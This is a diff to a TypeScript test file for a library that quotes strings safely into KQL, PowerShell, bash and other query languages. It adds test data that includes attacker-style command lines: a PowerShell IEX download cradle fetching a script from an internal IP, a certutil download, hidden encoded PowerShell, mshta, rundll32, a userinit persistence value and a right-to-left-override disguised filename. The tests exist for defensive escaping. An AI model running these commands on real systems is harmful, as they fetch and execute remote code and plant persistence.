@@ -117,13 +117,13 @@ describe('an ordinary path', () => {
 
 describe('a text that a message would show otherwise', () => {
   it.each([
-    ['KQL', kql, '"\\u0061\\u202e"'],
-    ['EQL', eql, '"\\u{61}\\u{202e}"'],
-    ['ES|QL', esql, 'FROM_BASE64("YeKArg==")'],
-    ['SQLite', sql, "CAST(x'61e280ae' AS TEXT)"],
-    ['PowerShell', powershell, "([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YeKArg==')))"],
-    ['bash', shell, "$'\\x61\\xe2\\x80\\xae'"],
-  ] as const)('is escaped from its first character on in %s', (_, quote, literal) => {
+    ['KQL', kql, '"a\\u202e"'],
+    ['EQL', eql, '"a\\u{202e}"'],
+    ['ES|QL', esql, 'CONCAT("a", FROM_BASE64("4oCu"))'],
+    ['SQLite', sql, "('a' || CAST(x'e280ae' AS TEXT))"],
+    ['PowerShell', powershell, "('a' + [char]0x202e)"],
+    ['bash', shell, "$'a\\xe2\\x80\\xae'"],
+  ] as const)('has that character alone by code in %s', (_, quote, literal) => {
     expect(quote('a\u202e')).toEqual({ text: literal, problem: null });
   });
 });
@@ -131,6 +131,7 @@ describe('a text that a message would show otherwise', () => {
 describe('what a mail or chat program would act on', () => {
   const active = [
     '<!channel>',
+    'http://evil.example:8080/n.ps1',
     '\\\\evil.example\\share',
     'https://evil.example/a',
     'evil.example',
@@ -143,6 +144,48 @@ describe('what a mail or chat program would act on', () => {
       expect([name, quote(`a ${text} b`).text]).toEqual([name, expect.not.stringContaining(text)]);
     }
   });
+});
+
+/** Payloads as they are met, and how KQL and PowerShell show them: by code is only what a mail would act on. */
+const PAYLOADS: readonly (readonly [data: string, inKql: string, inPowerShell: string])[] = [
+  ['mshta javascript:a("b")', '"mshta javascript:a(\\"b\\")"', `'mshta javascript:a("b")'`],
+  [
+    "IEX (New-Object Net.WebClient).DownloadString('http://10.10.10.5/n.ps1')",
+    `"IEX (New-Object Net.WebClient).DownloadString('http\\u003a//10.10.10\\u002e5/n.ps1')"`,
+    "('IEX (New-Object Net.WebClient).DownloadString(''http' + [char]0x3a + '//10.10.10' + [char]0x2e + '5/n.ps1'')')",
+  ],
+  [
+    'cmd.exe /c a.exe & b.exe > c.txt',
+    '"cmd.exe /c a.exe & b.exe > c.txt"',
+    "'cmd.exe /c a.exe & b.exe > c.txt'",
+  ],
+  [
+    '\\\\evil.example\\s\\a.exe',
+    '"\\u005c\\\\evil\\u002eexample\\\\s\\\\a.exe"',
+    "('' + [char]0x5c + '\\evil' + [char]0x2e + 'example\\s\\a.exe')",
+  ],
+  ['rundll32.exe a.dll, DllMain', '"rundll32.exe a.dll, DllMain"', "'rundll32.exe a.dll, DllMain'"],
+  [
+    'powershell -nop -w hidden -enc SQBFAFgA==',
+    '"powershell -nop -w hidden -enc SQBFAFgA=="',
+    "'powershell -nop -w hidden -enc SQBFAFgA=='",
+  ],
+  ['C:\\PROGRA~1\\~1.GUS', '"C:\\\\PROGRA~1\\\\~1.GUS"', "'C:\\PROGRA~1\\~1.GUS'"],
+  ['exe\u202egpj.scr', '"exe\\u202egpj.scr"', "('exe' + [char]0x202e + 'gpj.scr')"],
+  [
+    'certutil -urlcache -f https://a.b.example x',
+    '"certutil -urlcache -f https\\u003a//a\\u002eb\\u002eexample x"',
+    "('certutil -urlcache -f https' + [char]0x3a + '//a' + [char]0x2e + 'b' + [char]0x2e + 'example x')",
+  ],
+  [
+    'C:\\Windows\\system32\\userinit.exe,C:\\x.exe',
+    '"C:\\\\Windows\\\\system32\\\\userinit.exe,C:\\\\x.exe"',
+    "'C:\\Windows\\system32\\userinit.exe,C:\\x.exe'",
+  ],
+];
+
+it.each(PAYLOADS)('is legible in its queries: %s', (data, inKql, inPowerShell) => {
+  expect([kql(data).text, powershell(data).text]).toEqual([inKql, inPowerShell]);
 });
 
 describe('a writer', () => {
